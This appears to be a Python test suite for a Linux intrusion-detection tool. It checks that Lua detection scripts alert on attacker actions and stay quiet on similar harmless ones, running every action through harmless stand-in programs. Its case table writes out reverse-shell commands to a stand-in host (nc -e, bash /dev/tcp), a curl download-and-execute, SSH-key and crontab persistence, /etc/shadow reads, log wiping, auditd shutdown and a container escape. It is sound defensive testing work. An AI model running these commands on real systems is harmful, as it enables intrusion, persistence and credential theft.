"""Every script of scripts/ on the real kernel: what it is for makes it tell within the deadline, and what looks
alike, which happened before, does not.

Nothing harmful runs: programs are copies of /bin/true under the wanted name with the wanted arguments, and of bash
where something must be below them. tests/lua/scripts_spec.lua has the many variants.
"""
import contextlib
import glob
import os
import shutil
import socket
import subprocess
import sys
import time

from mwtest import ROOT, Skip, Watch, check, helper, main, scratch, test

QUIET = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}


def stand_in(name, source="/bin/true"):
    """A harmless program under another name."""
    path = os.path.join(scratch(), "as-" + os.path.basename(source), name)
    if not os.path.exists(path):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        shutil.copy(source, path)
    return path


def run(*argv, **popen):
    """A program of this name that ends at once; returns its pid."""
    process = subprocess.Popen(argv, executable=stand_in(argv[0]), **{**QUIET, **popen})
    process.wait()
    return process.pid


def run_under(parent, *argv):
    """The same below a program of another name; returns the parent's pid."""
    process = subprocess.Popen([parent, "-c", '"$@"; :', "x", stand_in(argv[0]), *argv[1:]],
                               executable=stand_in(parent, "/bin/bash"), **QUIET)
    process.wait()
    return process.pid


def run_in_shell(text):
    """A shell that is told this text, which it does not do."""
    return run("sh", "-c", text)


@contextlib.contextmanager
def shell_on_a_connection():
    """Its pid; it reads from the connection until the end of the block."""
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as there:
        here = server.accept()[0]
        shell = subprocess.Popen(["sh"], stdin=here, stdout=here, stderr=subprocess.DEVNULL)
        here.close()
        yield shell.pid
        there.close()
        shell.wait()


def run_from_memory():
    fd = os.memfd_create("stand-in", 0)
    with open("/bin/true", "rb") as program:
        os.write(fd, program.read())
    process = subprocess.Popen(["true"], executable=f"/proc/self/fd/{fd}", pass_fds=[fd], **QUIET)
    process.wait()
    os.close(fd)
    return process.pid


def become_root(*before):
    """A child that has these real, effective and saved ids, and takes root back."""
    pid = os.fork()
    if pid == 0:
        os.setresuid(*before)
        os.setresuid(0, 0, 0)
        os._exit(0)
    os.waitpid(pid, 0)
    return pid


def attach(name, user):
    """root attaches to a process of this user; returns the pid of that."""
    target = subprocess.Popen(["target", "wait"], executable=helper("act"), user=user,
                              stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
    subprocess.run([name, f"attach:{target.pid} detach:{target.pid}"],
                   executable=stand_in(name, helper("act")), check=True, **QUIET)
    target.communicate(b"\n")
    return target.pid


def at_a_terminal(*argv):
    """Runs below script(1), which gives it a terminal; what is unique is in the arguments."""
    subprocess.run(["script", "-qec", " ".join([stand_in(argv[0]), *argv[1:]]), "/dev/null"], check=True, **QUIET)


_kept = []


def keep(name, *args, **popen):
    """A copy of helpers/act.c that does its steps and waits until the end of the test."""
    process = subprocess.Popen([name, *args], executable=stand_in(name, helper("act")),
                               **{**QUIET, "stdin": subprocess.PIPE, **popen})
    _kept.append(process)
    return process.pid


def let_go():
    while _kept:
        _kept.pop().communicate()


def crash(name, number):
    for _ in range(3):
        pid = subprocess.Popen([name, f"kill:{number}"], executable=stand_in(name, helper("act")), **QUIET)
        pid.wait()
    return pid.pid


def session(text, *names):
    """A session of its own in which a shell does this, with the paths of stand-ins as $1, $2 and so on."""
    process = subprocess.Popen(["session", "-c", text, "x", *map(stand_in, names)],
                               executable=stand_in("session", "/bin/bash"), start_new_session=True, **QUIET)
    process.wait()
    return process.pid


def with_socket(name, listening):
    """A program that has a socket of ours, and waits until the end of the test."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        if listening:
            s.listen()
        return keep(name, "wait", pass_fds=[s.fileno()])


LOOKS = ["whoami", "id", "w", "uname", "ps", "ss", "hostname"]

# script: (what looks alike, what it is for, words of what it then tells, settings). Each returns the pid of the
# process, or of its parent.
CASES = {
    "reverse-shell": (lambda: run("nc", "-z", "localhost", "22"),
                      lambda: run("nc", "-e", "/bin/sh", "192.0.2.1", "4444"), "reverse shell"),
    "shell-under-server": (lambda: run_under("nginz", "sh", "-c", "id"),
                           lambda: run_under("nginx", "sh", "-c", "id"), "below the server nginx"),
    "exec-from-writable": (lambda: subprocess.Popen(["/bin/true", "/tmp/x"], **QUIET).pid,
                           lambda: run("packed"), "runs from where anybody can write"),
    "setuid-gain": (lambda: become_root(0, 65534, 0), lambda: become_root(65534, 65534, 0), "user 65534 became root"),
    "ptrace-across-users": (lambda: attach("gdb", 0), lambda: attach("gdb", 65534), "of user 65534, as user 0"),
    "cron-persistence": (lambda: run("crontab", "-l"), lambda: run("crontab", "/tmp/persistevil"), "changes a crontab"),
    "service-persistence": (lambda: run("systemctl", "status", "x"), lambda: run("systemctl", "link", "/tmp/x.service"),
                            "links the unit /tmp/x.service"),
    "ssh-keys": (lambda: run_in_shell("cat /root/.ssh/authorized_keys"),
                 lambda: run_in_shell("echo key >> /root/.ssh/authorized_keys"), "changes /root/.ssh/authorized_keys"),
    "shell-profile": (lambda: run_in_shell("cat ~/.bashrc"), lambda: run("tee", "-a", "/etc/ld.so.preload"),
                      "writes /etc/ld.so.preload"),
    "log-wiping": (lambda: run("tail", "/var/log/messages"), lambda: run("truncate", "-s", "0", "/var/log/messages"),
                   "removes or empties /var/log/messages"),
    "defence-off": (lambda: run("systemctl", "stop", "nginx"), lambda: run("systemctl", "stop", "auditd"),
                    "stop of auditd"),
    "crash-loop": (lambda: crash("ended", 15), lambda: crash("crashing", 11), "crashed 3 times"),
    "fork-bomb": (lambda: keep("build", "child exit:0 | reap " * 20 + "wait", start_new_session=True),
                  lambda: keep("bomb", "child wait | " * 20 + "wait", start_new_session=True), "processes more within",
                  "grown=15"),
    "recon-burst": (lambda: session('for c; do "$1"; done', *LOOKS), lambda: session('for c; do "$c"; done', *LOOKS),
                    "7 ways of looking around"),
    "download-and-execute": (lambda: session('"$1" -O http://192.0.2.1/a.sh; "$2"', "curl", "b.sh"),
                             lambda: session('"$1" -O http://192.0.2.1/c.sh; "$2"', "curl", "c.sh"),
                             "runs what was downloaded"),
    "kernel-module": (lambda: run("modprobe", "-n", "x"), lambda: run("insmod", "/tmp/x.ko"), "loads the kernel module"),
    "ld-preload": (lambda: keep("act", "wait", env={"LD_PRELOAD": "libeatmydata.so"}),
                   lambda: keep("act", "wait", env={"LD_PRELOAD": "/tmp/no-such.so"}), "LD_PRELOAD loads /tmp/no-such.so"),
    "credential-files": (lambda: run("cat", "/etc/passwd"), lambda: run("cat", "/etc/shadow"), "is about /etc/shadow"),
    "account-commands": (lambda: run("useradd", "-D"), lambda: run("useradd", "-g", "0", "evil"), "makes an account"),
    "container-escape": (lambda: run("nsenter", "-t", "4711", "-n", "ss"), lambda: run("nsenter", "-t", "1", "-m", "sh"),
                         "enters the host's namespaces"),
    "crypto-miner": (lambda: run("digger", "http://192.0.2.1:3333/"),
                     lambda: run("digger", "-o", "stratum+tcp://192.0.2.1:3333"), "mines by its name or command line"),
    "shell-breakout": (lambda: run("awk", "{print $1}", "/etc/shells"),
                       lambda: run("awk", 'BEGIN {system("/bin/sh")}'), "awk is made to give a shell"),
    "masquerade": (lambda: run("pictures", "image.png"), lambda: run("crond"), "has the name of a service of the system"),
    "tunnels": (lambda: run("ssh", "user@192.0.2.1"), lambda: run("cloudflared", "tunnel"), "opens a tunnel"),
    "offensive-tools": (lambda: run("cat", "nmap"), lambda: run("nmap", "-sS", "192.0.2.0/24"), "uses nmap"),
    "new-listeners": (lambda: with_socket("bound", False), lambda: with_socket("listening", True),
                      "listens on 127.0.0.1 port", "ephemeral=yes", "soon=0.05"),
    "hidden-process": (lambda: run("mount", "-B", "/srv", "/mnt"), lambda: run("mount", "-B", "/proc/1", "/proc/4711"),
                       "a mount over or from /proc/"),
    "timestomp": (lambda: run("touch", "x"), lambda: run("touch", "-t", "197001010000", "x"), "sets the times of x"),
    "setuid-bit": (lambda: run("chmod", "0755", "x"), lambda: run("chmod", "u+s", "x"), "makes a file setuid"),
}


def alerts_about(w, pid):
    return [e for e in w.events if e.get("event", {}).get("kind") == "alert"
            and pid in (e["process"]["pid"], e["process"].get("parent", {}).get("pid"))]


def watch(name, *settings, options=()):
    options = [*options, *(word for setting in settings for word in ("--set", f"{name}.{setting}"))]
    return Watch("--json", *options, scripts=[os.path.join(ROOT, "scripts", name + ".lua")])


def no_errors(w, name):
    check(w.stop() == 0, "it did not end with status 0")
    check(f"{name}: " in w.stderr() and ", 0 errors" in w.stderr(), w.stderr())


def claim(name, alike, act, wanted, *settings):
    @test(f"{name} tells of what it is for, and not of what looks alike")
    def _():
        with watch(name, *settings) as w:
            harmless = alike()
            pid = act()
            alert = w.wait(lambda: alerts_about(w, pid) or alerts_about(w, harmless), f"an alert about {pid}")[0]
            check(not alerts_about(w, harmless), f"alerted of what looks alike: {alerts_about(w, harmless)}")
            check(wanted in alert["message"], f"it says {alert['message']}")
            check(alert["rule"]["name"] == name and alert["rule"]["tags"], f"rule: {alert['rule']}")
            w.marker()
            let_go()
            check(not alerts_about(w, harmless), f"alerted of what looks alike: {alerts_about(w, harmless)}")
            no_errors(w, name)


for script, case in CASES.items():
    claim(script, *case)


@test("reverse-shell tells of a shell whose input is a connection, and with whom")
def on_a_connection():
    with watch("reverse-shell") as w, shell_on_a_connection() as pid:
        alert = w.wait(lambda: alerts_about(w, pid), f"an alert about {pid}")[0]
        check("a connection with 127.0.0.1 port" in alert["message"], alert["message"])


@test("reverse-shell finds it behind 20,000 blanks")
def behind_blanks():
    with watch("reverse-shell") as w:
        pid = run_in_shell(" " * 20000 + "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
        w.wait(lambda: alerts_about(w, pid), f"an alert about {pid}")


@test("ld-preload finds a library behind 9,000 variables")
def behind_variables():
    with watch("ld-preload") as w:
        pid = run("env", *["A="] * 9000, "LD_PRELOAD=/tmp/no-such.so", "true")
        w.wait(lambda: alerts_about(w, pid), f"an alert about {pid}")


@test("exec-from-writable tells of a program that is in memory alone")
def from_memory():
    with watch("exec-from-writable") as w:
        pid = run_from_memory()
        alert = w.wait(lambda: alerts_about(w, pid), f"an alert about {pid}")[0]
        check("from memory alone, /memfd:stand-in" in alert["message"], alert["message"])
        check(alert["moonwatch"]["alert"]["severity"] == "high", alert["moonwatch"])


@test("who-ran-what tells of a program at a terminal, and not of one that is left out")
def who_ran_what():
    with watch("who-ran-what", "ignore=left-out") as w:
        at_a_terminal("true", "left-out", "at-a-terminal-1")
        at_a_terminal("true", "seen", "at-a-terminal-2")
        w.wait_line(lambda line: b"at-a-terminal-2" in line, "the line")
        check(not any(b"at-a-terminal-1" in line for line in w.lines), w.lines)
        no_errors(w, "who-ran-what")


@test("crypto-miner tells of a program from /tmp that computes and is connected with the outside")
def computes():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("192.0.2.1", 9))  # nothing is sent: it asks for the way
        except OSError:
            raise Skip("no address but those of the host itself") from None
        address = s.getsockname()[0]
    with watch("crypto-miner", "seconds=0.5", "share=0.2") as w, socket.create_server((address, 0)) as server:
        with socket.create_connection(server.getsockname()) as there:
            digger = subprocess.Popen(["digger", "-c", "while :; do :; done"], executable=stand_in("digger", "/bin/bash"),
                                      pass_fds=[there.fileno()], **QUIET)
            try:
                alert = w.wait(lambda: alerts_about(w, digger.pid), "an alert")[0]
                check(f"connected with {address}" in alert["message"], alert["message"])
            finally:
                digger.kill()
                digger.wait()


@test("privileged-container-shell and container-escape tell of a shell with the host's rights in a container")
def in_container():
    name = "f00d" * 16
    mounts = [m for m in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified") if os.path.exists(m + "/cgroup.procs")]
    if not mounts:
        raise Skip("no unified control groups are mounted")
    group = f"{mounts[0]}/docker-{name}.scope"
    try:
        os.mkdir(group)
    except OSError as problem:
        raise Skip(f"no control group can be made: {problem}") from None
    try:
        for script, wanted in ("privileged-container-shell", f"a shell in the container {name[:12]} has"), \
                ("container-escape", "sees the host's file systems"):
            with watch(script) as w:
                alike = subprocess.run(["sh", "-c", "echo $$; exec /bin/sh -c :"], stdout=subprocess.PIPE, check=True)
                shell = subprocess.Popen(
                    ["sh", "-c", f"echo $$ > {group}/cgroup.procs; exec /bin/sh"], stdin=subprocess.PIPE)
                try:
                    alert = w.wait(lambda: alerts_about(w, shell.pid), f"an alert of {script}")[0]
                finally:
                    shell.communicate()
                check(wanted in alert["message"], alert["message"])
                check(not alerts_about(w, int(alike.stdout)), "it alerted of a shell of the host")
                no_errors(w, script)
    finally:
        os.rmdir(group)


@contextlib.contextmanager
def covered(pid):
    """An empty directory lies over its /proc/PID until the end of the block."""
    empty = os.path.join(scratch(), "empty")
    os.makedirs(empty, exist_ok=True)
    mounted = subprocess.run(["mount", "--bind", empty, f"/proc/{pid}"], stderr=subprocess.PIPE, text=True)
    if mounted.returncode:
        raise Skip(f"nothing can be mounted here: {mounted.stderr.strip()}")
    try:
        yield
    finally:
        subprocess.run(["umount", f"/proc/{pid}"], check=True)


@test("hidden-process tells of a process with a mount over its /proc/PID, and not of those that come and go")
def hidden_process():
    with watch("hidden-process", "every=0.2", "again=0.2") as w:
        pid, shown = keep("covered", "wait"), keep("shown", "wait")
        with covered(pid):
            alert = w.wait(lambda: run("short-lived") and alerts_about(w, pid), f"an alert about {pid}")[0]
            check(f"pid {pid} lives, but /proc/{pid} does not show it" in alert["message"], alert["message"])
            check(alert["moonwatch"]["alert"]["severity"] == "critical", alert["moonwatch"])
        check(not alerts_about(w, shown), f"alerted of what is shown: {alerts_about(w, shown)}")
        told = [e for e in w.events if "moonwatch" in e and "alert" in e["moonwatch"]]
        others = [e for e in told if "lives, but" in e["message"] and e["message"] != alert["message"]]
        check(not others, f"alerted of what came and went: {others}")
        let_go()
        no_errors(w, "hidden-process")


@test("first-seen tells of a program once, also over a restart")
def first_seen():
    directory = os.path.join(scratch(), "state")
    with watch("first-seen", "learn=1ms", options=["--state-dir", directory]) as w:
        first, second = run("novelty"), run("novelty")
        alert = w.wait(lambda: alerts_about(w, first), "an alert")[0]
        check("has never run here" in alert["message"], alert["message"])
        w.marker()
        check(not alerts_about(w, second), "it told twice")
        no_errors(w, "first-seen")
    with watch("first-seen", "learn=1ms", options=["--state-dir", directory]) as w:
        again, other = run("novelty"), run("another")
        w.wait(lambda: alerts_about(w, other), "an alert about another program")
        check(not alerts_about(w, again), "it forgot over the restart")


@test("build-cost tells what a build cost, and nothing of what is none")
def build_cost():
    with watch("build-cost", "least=0") as w:
        run_under("build-no", "cc1", "no-build")
        run_under("make", "cc1", "a-build")
        w.wait_line(lambda line: b"cpu in" in line and b"a-build" in line, "the sum")
        w.wait_line(lambda line: b" s  " in line and b"cc1 a-build" in line, "the dearest")
        w.marker()
        check(not any(b"no-build" in line for line in w.lines), w.lines)
        no_errors(w, "build-cost")


@test("slow-commands tells of a command that took long, and not of a quick one")
def slow_commands():
    with watch("slow-commands", "seconds=0.3", "ignore=none") as w:
        for span in "0.001", "0.31":
            subprocess.run(["waits", span], executable=stand_in("waits", "/bin/sleep"), check=True, **QUIET)
        w.wait_line(lambda line: b"waits 0.31" in line, "the slow one")
        check(not any(b"waits 0.001" in line for line in w.lines), w.lines)
        check(w.stop() == 0, w.stderr())
        check(any(b"in 1, longest" in line and b": waits" in line for line in w.lines), w.lines)


@test("each script has both here")
def all_have_tests():
    found = {os.path.basename(p)[:-4] for p in glob.glob(os.path.join(ROOT, "scripts", "*.lua"))}
    own = {"who-ran-what", "first-seen", "privileged-container-shell", "build-cost", "slow-commands"}
    untested = found - set(CASES) - own
    check(not untested, f"no test for {sorted(untested)}")


def outside_of_builds(do):
    """Do it in a process that descends from nobody: many scripts let pass what a build does, and `make test` is one.
    Ends with its status."""
    reads, writes = os.pipe()
    middle = os.fork()
    if middle:
        os.close(writes)
        os.waitpid(middle, 0)
        sys.exit((os.read(reads, 1) or b"\1")[0])
    middle = os.getpid()
    if os.fork():
        os._exit(0)
    while os.getppid() == middle:
        time.sleep(0.001)
    try:
        do()
    except SystemExit as end:
        sys.stdout.flush()
        os.write(writes, bytes([end.code]))


if __name__ == "__main__":
    outside_of_builds(main)
